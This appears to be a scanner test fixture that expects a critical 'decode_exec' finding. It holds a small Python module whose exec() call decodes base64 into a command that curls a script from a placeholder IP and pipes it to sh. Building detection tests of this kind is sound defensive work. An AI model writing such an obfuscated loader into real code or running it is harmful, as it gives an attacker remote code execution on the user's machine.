# expect: python.decode_exec critical
# path: src/pkg/loader.py
"""module docstring"""

import base64
exec(base64.b64decode("aW1wb3J0IG9zO29zLnN5c3RlbSgnY3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjEyMS94fHNoJyk="))
